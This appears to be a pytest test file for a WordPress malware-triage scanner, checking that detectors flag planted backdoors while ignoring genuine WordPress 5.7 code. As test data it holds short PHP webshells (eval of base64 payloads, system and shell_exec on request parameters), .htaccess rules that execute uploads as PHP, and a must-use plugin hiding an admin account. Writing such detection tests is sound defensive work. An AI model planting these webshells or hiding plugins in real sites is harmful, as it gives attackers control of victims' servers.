"""WordPress file checks on small site trees: each rule finds the planted thing and
leaves its genuine look-alike alone (excerpts of WordPress 5.7's own code)."""

from __future__ import annotations

import base64
import os
from pathlib import Path

import pytest

from vpsrescue.triage import wordpress
from vpsrescue.triage.model import Context, Site
from vpsrescue.triage.quarantine import judged

from ..oldroot import OldRoot

pytestmark = pytest.mark.unit

SITE = Site(root="/var/www/example.org", content_dir="/var/www/example.org/wp-content",
            table_prefix="wp_", db_name="exampledb", server_names=["example.org"])
CONTENT = SITE.content_dir

# Genuine WordPress code that a naive scanner flags (all from WordPress 5.7 core).
CORE_LOOKALIKES = {
    "wp-includes/class-wp-http-encoding.php": b"""<?php
class WP_Http_Encoding {
	public static function decompress( $compressed, $length = null ) {
		if ( empty( $compressed ) ) {
			return $compressed;
		}
		$decompressed = @gzinflate( $compressed );
		if ( false !== $decompressed ) {
			return $decompressed;
		}
		$decompressed = @gzuncompress( $compressed );
		return $compressed;
	}
}
""",
    "wp-includes/Text/Diff/Engine/native.php": b"""<?php
            assert($k > 0);
            while ($k > 0 && $y < $this->seq[$k]) {
                assert($y <= $this->seq[$k]);
""",
    "wp-includes/class-wp-ajax-response.php": b"""<?php
    /**
     *     @type string|false $action   A string naming the action. Defaults to
     *                                  the value of `$_POST['action']`. Default false.
     */
    public function add( $args = '' ) {
""",
    "wp-includes/random_compat/random_bytes_com_dotnet.php": b"""<?php
            $buf .= base64_decode((string) $util->GetRandom($bytes, 0));
""",
    "wp-includes/load.php": b"""<?php
function wp_magic_quotes() {
	// Escape with wpdb.
	$_GET    = add_magic_quotes( $_GET );
	$_POST   = add_magic_quotes( $_POST );
	$_REQUEST = array_merge( $_GET, $_POST );
	$token = base64_decode( $token );
	$x = preg_replace( '/[^a-z0-9_\\-]/', '', strtolower( $_REQUEST['action'] ) );
}
""",
    "wp-content/themes/twentytwentyone/functions.php": b"""<?php
function twentytwentyone_add_ie_class() {
	?>
	<script>
	if ( -1 !== navigator.userAgent.indexOf( 'MSIE' ) ) {
		document.body.classList.add( 'is-IE' );
	}
	</script>
	<?php
}
add_action( 'wp_footer', 'twentytwentyone_add_ie_class' );
""",
    "wp-config.php": b"""<?php
define( 'DB_NAME', 'exampledb' );
define( 'DB_USER', 'example' );
define( 'DB_PASSWORD', 'pw' );
$table_prefix = 'wp_';
/* That's all, stop editing! Happy publishing. */
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
""",
    ".htaccess": b"""# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
RewriteRule ^old-page$ https://www.example.org/new-page [R=301,L]
</IfModule>
# END WordPress
""",
}


def site_root(tmp_path: Path, extra: dict[str, bytes] | None = None) -> OldRoot:
    """SITE with WordPress's own look-alikes and an image in uploads, plus ``extra``."""
    old = OldRoot(tmp_path, "old")
    old.files(CORE_LOOKALIKES, under=SITE.root)
    old.file(f"{CONTENT}/uploads/2019/09/cafe-menu.jpg",
             b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\0" * 64)
    old.files(extra or {})
    return old


def site_tree(tmp_path: Path, extra: dict[str, bytes] | None = None) -> Context:
    return site_root(tmp_path, extra).ctx([SITE])


def test_genuine_site_gives_no_finding(tmp_path: Path) -> None:
    ctx = site_tree(tmp_path)
    found = [f for c in wordpress.CHECKS for f in c(ctx)]
    assert found == []


def test_php_in_uploads_is_a_webshell_hidden_names_too(tmp_path: Path) -> None:
    shell = (b"<?php\nif (isset($_REQUEST['c'])) { echo '<pre>'; @system($_REQUEST['c']); "
             b"exit; }\n")
    ctx = site_tree(tmp_path, {
        f"{CONTENT}/uploads/2023/11/wp-cache.php": shell,
        f"{CONTENT}/uploads/2019/09/.sess.php": b"<?php echo 1; ?>",
        f"{CONTENT}/uploads/2019/09/notes.PHTML": b"<?php phpinfo();",
    })
    found = {f.path: f for f in judged(wordpress.check_uploads_php(ctx), ctx.sites)}
    assert set(found) == {f"{CONTENT}/uploads/2023/11/wp-cache.php",
                          f"{CONTENT}/uploads/2019/09/.sess.php",
                          f"{CONTENT}/uploads/2019/09/notes.PHTML"}
    f = found[f"{CONTENT}/uploads/2023/11/wp-cache.php"]
    assert (f.kind, f.severity, f.quarantine) == ("webshell", "critical", True)
    assert "@system($_REQUEST['c'])" in f.evidence
    assert "hidden" in found[f"{CONTENT}/uploads/2019/09/.sess.php"].title


def test_php_hidden_in_an_image_in_uploads(tmp_path: Path) -> None:
    ctx = site_tree(tmp_path, {
        f"{CONTENT}/uploads/2020/01/favicon_3f1a.ico": b"<?php eval($_POST['x']);",
    })
    found = judged(wordpress.check_uploads_php(ctx), ctx.sites)
    assert [(f.kind, f.path) for f in found] == [
        ("php_backdoor", f"{CONTENT}/uploads/2020/01/favicon_3f1a.ico")]


@pytest.mark.parametrize(("code", "kind"), [
    (b"@eval(gzinflate(base64_decode('y0zTyCwuTi3RUIl39vf39nSNVi8viC9OLS5W')));",
     "php_backdoor"),
    (b"eval( str_rot13( $payload ) );", "php_backdoor"),
    (b"EvAl(Base64_Decode($GLOBALS['x']));", "php_backdoor"),  # PHP ignores the case
    (b"$f = gzuncompress(base64_decode($blob));", "php_backdoor"),
    (b"if (!empty($_GET['cmd'])) { echo shell_exec($_GET['cmd']); }", "webshell"),
    (b"assert($_POST['x']);", "webshell"),
    (b"$o = `ls {$_COOKIE['d']}`;", "webshell"),
    (b"$_POST['f']($_POST['a']);", "webshell"),
    (b"echo preg_replace('/.*/e', $_REQUEST['c'], '');", "php_backdoor"),
    (b"$fn = create_function('', $_REQUEST['code']); $fn();", "webshell"),
    (b"$d = '" + b"QUJD" * 200 + b"';", "php_backdoor"),
    (b"@include \"/var/www/example.org/wp-includes/images/.cache.ico\";", "php_backdoor"),
])
def test_backdoor_code_appended_to_a_theme_is_found(tmp_path: Path, code: bytes,
                                                     kind: str) -> None:
    theme = f"{SITE.root}/wp-content/themes/twentytwentyone/functions.php"
    ctx = site_tree(tmp_path, {
        theme: CORE_LOOKALIKES["wp-content/themes/twentytwentyone/functions.php"] + b"\n"
        + code + b"\n"})
    found = judged(wordpress.check_php_code(ctx), ctx.sites)
    assert [(f.path, f.kind, f.quarantine) for f in found] == [(theme, kind, True)]
    assert found[0].evidence and found[0].evidence in code.decode()


@pytest.mark.parametrize("code", [
    b"$x = preg_replace('/\\s+/', ' ', $text);",
    b"@include ABSPATH . 'wp-admin/includes/plugin.php';",
    b"@include_once __DIR__ . '/inc/helpers.php';",
    b"// example: eval(base64_decode($x)) is what a backdoor does",
    b"$json = base64_decode( $value['encoded_serialized_instance'], true );",
    # an icon embedded the way admin-menu plugins do: a PNG, not code
    b"$icon = '" + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 3) + b"';",
])
def test_benign_lookalikes_in_a_plugin_are_not_flagged(tmp_path: Path, code: bytes) -> None:
    ctx = site_tree(tmp_path, {f"{CONTENT}/plugins/hello/hello.php": b"<?php\n" + code})
    assert judged(wordpress.check_php_code(ctx), ctx.sites) == []


def test_debian_layout_symlinks_are_followed_inside_the_old_root(tmp_path: Path) -> None:
    """themes/x -> /usr/share/wordpress/... (absolute) means the old disk's path: the
    finding names the real file, and nothing of this machine is read."""
    old = OldRoot(tmp_path, "old")
    site = Site(root="/usr/share/wordpress", content_dir="/var/lib/wordpress/wp-content",
                server_names=["blog.example.org"])
    real = "/srv/pkg/themes/twentytwentyone/functions.php"  # not a path on this machine
    assert not os.path.exists(real)
    old.file("/usr/share/wordpress/index.php", b"<?php define('WP_USE_THEMES', true);")
    old.file(real, b"<?php\n@eval(gzinflate(base64_decode('y0zT')));\n")
    old.link("/var/lib/wordpress/wp-content/themes/twentytwentyone",
             "/srv/pkg/themes/twentytwentyone")
    old.link("/var/lib/wordpress/wp-content/themes/dangling.php", "/etc/passwd")
    ctx = old.ctx([site])
    found = judged(wordpress.check_php_code(ctx), ctx.sites)
    assert [(f.path, f.kind) for f in found] == [(real, "php_backdoor")]


@pytest.mark.parametrize(("path", "text", "kind", "severity"), [
    ("/var/www/example.org/.htaccess",
     b'php_value auto_prepend_file "/var/www/example.org/wp-content/uploads/2019/09/.s.php"\n',
     "htaccess", "critical"),
    (f"{CONTENT}/uploads/.htaccess", b"AddHandler application/x-httpd-php .jpg .png\n",
     "htaccess", "critical"),
    (f"{CONTENT}/uploads/2020/.htaccess",
     b"<Files ~ \"\\.ico$\">\nSetHandler application/x-httpd-php\n</Files>\n",
     "htaccess", "critical"),
    ("/var/www/example.org/.htaccess",
     b"RewriteEngine On\nRewriteCond %{HTTP_REFERER} google [NC]\n"
     b"RewriteRule ^(.*)$ http://pills.example.com/?r=$1 [R=302,L]\n", "htaccess", "high"),
    ("/var/www/example.org/.user.ini", b"auto_prepend_file = /tmp/.x.php\n", "user_ini",
     "critical"),
    ("/var/www/example.org/.htaccess", b"RewriteRule ^(.*)$ http://198.51.100.9/$1 [R,L]\n",
     "htaccess", "high"),
    ("/var/www/example.org/.htaccess",  # maybe the owner's own move: reviewed, not alarmed
     b"RewriteRule ^(.*)$ https://example-new.org/$1 [R=301,L]\n", "htaccess", "medium"),
])
def test_htaccess_that_runs_or_redirects_code(tmp_path: Path, path: str, text: bytes,
                                              kind: str, severity: str) -> None:
    ctx = site_tree(tmp_path, {path: text})
    found = judged(wordpress.check_htaccess(ctx), ctx.sites)
    assert found and {(f.path, f.kind, f.quarantine) for f in found} == {(path, kind, True)}
    rank = ["critical", "high", "medium", "low", "info"]
    assert min((f.severity for f in found), key=rank.index) == severity


def test_protective_htaccess_and_ini_are_not_flagged(tmp_path: Path) -> None:
    ctx = site_tree(tmp_path, {
        f"{CONTENT}/uploads/.htaccess": b"# BEGIN Wordfence code execution protection\n"
                                         b"<IfModule mod_php7.c>\nphp_flag engine 0\n"
                                         b"</IfModule>\nAddHandler cgi-script .php .phtml\n",
        "/var/www/example.org/.user.ini": b"memory_limit = 256M\nupload_max_filesize = 64M\n"
                                          b"; auto_prepend_file = /x.php\n",
        "/var/www/example.org/wp-admin/.htaccess": b"AddType application/x-httpd-php .php\n",
        "/var/www/example.org/wp-includes/.htaccess":
            b'<FilesMatch ".+\\.ph(ar|p|tml)$">\n'
            b'    SetHandler "proxy:unix:/run/php/php7.4-fpm.sock|fcgi://localhost"\n'
            b"</FilesMatch>\n"
            b"RewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n",
    })
    assert judged(wordpress.check_htaccess(ctx), ctx.sites) == []


def test_mu_plugins_every_one_listed_the_hider_high(tmp_path: Path) -> None:
    hider = (b"<?php\n/* Plugin Name: WP Session Helper */\n"
             b"add_action('pre_user_query', function ($q) {\n    global $wpdb;\n"
             b"    $q->query_where .= \" AND {$wpdb->users}.user_login != 'wpsupport'\";\n});\n")
    loader = (b"<?php\n/* Plugin Name: Site loader */\n"
              b"require WPMU_PLUGIN_DIR . '/site-tweaks/tweaks.php';\n")
    ctx = site_tree(tmp_path, {f"{CONTENT}/mu-plugins/wp-session-helper.php": hider,
                               f"{CONTENT}/mu-plugins/loader.php": loader,
                               f"{CONTENT}/mu-plugins/site-tweaks/tweaks.php":
                                   b"<?php\nadd_filter('xmlrpc_enabled', '__return_false');\n",
                               f"{CONTENT}/mu-plugins/site-tweaks/inc/.h.php": hider})
    found = {f.path.rsplit("/", 1)[1]: f
             for f in judged(wordpress.check_mu_plugins(ctx), ctx.sites)}
    h = found["wp-session-helper.php"]
    assert (h.kind, h.severity, h.quarantine) == ("mu_plugin", "high", True)
    assert "user_login != 'wpsupport'" in h.evidence
    assert found[".h.php"].severity == "high"  # loaded by a loader: judged all the same
    assert "tweaks.php" not in found  # a library of a must-use plugin, nothing to say
    ok = found["loader.php"]
    assert (ok.kind, ok.severity, ok.quarantine) == ("mu_plugin", "info", False)
    # mu-plugins are judged by this check only, not twice
    assert judged(wordpress.check_php_code(ctx), ctx.sites) == []


def test_dropins_in_wp_content_only(tmp_path: Path) -> None:
    ctx = site_tree(tmp_path, {
        f"{CONTENT}/object-cache.php": b"<?php\n/* Plugin Name: Redis Object Cache Drop-In */",
        f"{CONTENT}/plugins/redis-cache/includes/object-cache.php": b"<?php // the original",
    })
    found = judged(wordpress.check_dropins(ctx), ctx.sites)
    assert [(f.path, f.kind, f.severity) for f in found] == [
        (f"{CONTENT}/object-cache.php", "dropin", "medium")]


def test_wp_config_with_code_after_wp_settings(tmp_path: Path) -> None:
    cfg = CORE_LOOKALIKES["wp-config.php"] + b"@eval($_POST['k']);\n"
    ctx = site_tree(tmp_path, {f"{SITE.root}/wp-config.php": cfg})
    found = judged(wordpress.check_config(ctx), ctx.sites)
    assert [(f.path, f.kind, f.quarantine) for f in found] == [
        (f"{SITE.root}/wp-config.php", "php_backdoor", True)]
    assert "after the require of wp-settings.php" in found[0].title


def test_debian_config_files_are_checked_and_debians_own_wp_config_is_not_flagged(
        tmp_path: Path) -> None:
    old = OldRoot(tmp_path, "old")
    debian_wp_config = b"""<?php
$debian_server = preg_replace('/:.*/', "", $_SERVER['HTTP_HOST']);
$debian_file = '/etc/wordpress/config-'.strtolower($debian_server).'.php';
if (file_exists($debian_file)) {
    require_once($debian_file);
    define('DEBIAN_FILE', $debian_file);
} else {
    header("HTTP/1.0 404 Not Found");
    exit(1);
}
if (!defined('ABSPATH'))
    define('ABSPATH', '/usr/share/wordpress/');
require_once(ABSPATH . 'wp-settings.php');
?>
"""
    old.file("/usr/share/wordpress/wp-config.php", debian_wp_config)
    old.file("/etc/wordpress/config-blog.example.org.php",
             b"<?php\ndefine('DB_NAME', 'blog');\n$table_prefix = 'wp_';\n?>\n")
    old.file("/etc/wordpress/config-shop.example.org.php",
             b"<?php\ndefine('DB_NAME', 'shop');\n"
             b"if (isset($_COOKIE['wpx'])) { $f = base64_decode($_COOKIE['wpx']); @$f(); }\n")
    site = Site(root="/usr/share/wordpress", content_dir="/var/lib/wordpress/wp-content",
                server_names=["blog.example.org"])
    found = judged(wordpress.check_config(old.ctx([site])), [site])
    assert [(f.path, f.kind) for f in found] == [
        ("/etc/wordpress/config-shop.example.org.php", "php_backdoor")]
    assert "base64_decode" in found[0].title


def test_placeholder_php_in_uploads_is_quarantined_without_alarm(tmp_path: Path) -> None:
    ctx = site_tree(tmp_path, {f"{CONTENT}/uploads/index.php": b"<?php\n// Silence is golden.\n",
                               f"{CONTENT}/uploads/x.php": b"<?php\necho 'hi';\n"})
    found = {f.path.rsplit("/", 1)[1]: f
             for f in judged(wordpress.check_uploads_php(ctx), ctx.sites)}
    assert (found["index.php"].severity, found["index.php"].quarantine) == ("medium", True)
    assert found["x.php"].severity == "critical"


def test_code_after_a_closed_comment_on_the_same_line_is_code(tmp_path: Path) -> None:
    ctx = site_tree(tmp_path, {f"{CONTENT}/plugins/hello/hello.php":
                               b"<?php\n/**\n * Hello\n */ @eval(base64_decode($_COOKIE['h']));\n"})
    assert [f.kind for f in wordpress.check_php_code(ctx)] == ["webshell"]  # runs the cookie


def test_packaged_wordpress_modified_and_extra_php_files(tmp_path: Path) -> None:
    old = OldRoot(tmp_path, "old")
    pristine = {"/usr/share/wordpress/index.php": b"<?php\ndefine( 'WP_USE_THEMES', true );\n",
                "/usr/share/wordpress/wp-includes/version.php": b"<?php\n$wp_version = '5.7';\n",
                "/usr/share/wordpress/wp-includes/user.php": b"<?php\nfunction wp_signon() {}\n"}
    on_disk = dict(pristine)
    on_disk["/usr/share/wordpress/wp-includes/user.php"] += b"function wp_x() { return 1; }\n"
    old.debian_package("wordpress", on_disk, shipped=pristine)
    old.file("/usr/share/wordpress/wp-includes/class-wp-cache.php", b"<?php\n$a = 1;\n")
    site = Site(root="/usr/share/wordpress", content_dir="/var/lib/wordpress/wp-content")
    found = {f.path: f for f in judged(wordpress.check_php_code(old.ctx([site])), [site])}
    assert {p: (f.kind, f.severity, f.quarantine) for p, f in found.items()} == {
        "/usr/share/wordpress/wp-includes/user.php": ("modified_package_file", "medium", True),
        "/usr/share/wordpress/wp-includes/class-wp-cache.php": ("php_unowned", "high", True),
    }
    assert found["/usr/share/wordpress/wp-includes/user.php"].extra["package"] == "wordpress"


def test_auto_prepend_file_none_is_not_flagged(tmp_path: Path) -> None:
    ctx = site_tree(tmp_path, {"/var/www/example.org/.htaccess":
                               b"php_value auto_prepend_file none\n"})
    assert judged(wordpress.check_htaccess(ctx), ctx.sites) == []


def test_a_link_to_the_root_in_uploads_is_reported_and_not_walked(tmp_path: Path) -> None:
    old = site_root(tmp_path, {"/usr/lib/php/PEAR.php": b"<?php eval(base64_decode($x));"})
    old.link(f"{CONTENT}/uploads/2019/09/root.txt", "/")
    old.link(f"{CONTENT}/uploads/cfg.txt", "../../wp-config.php")
    old.link(f"{CONTENT}/uploads/menu.jpg", "2019/09/cafe-menu.jpg")
    ctx = old.ctx([SITE])
    links = {f.path.rsplit("/", 1)[1]: f
             for f in judged(wordpress.check_uploads_links(ctx), ctx.sites)}
    assert set(links) == {"root.txt", "cfg.txt"}  # not the link that stays in uploads
    assert (links["root.txt"].kind, links["root.txt"].quarantine) == ("symlink", True)
    assert links["cfg.txt"].extra["resolved"] == f"{SITE.root}/wp-config.php"
    # the disk's other PHP (reachable only through the link to /) is not scanned
    assert judged(wordpress.check_php_code(ctx), ctx.sites) == []
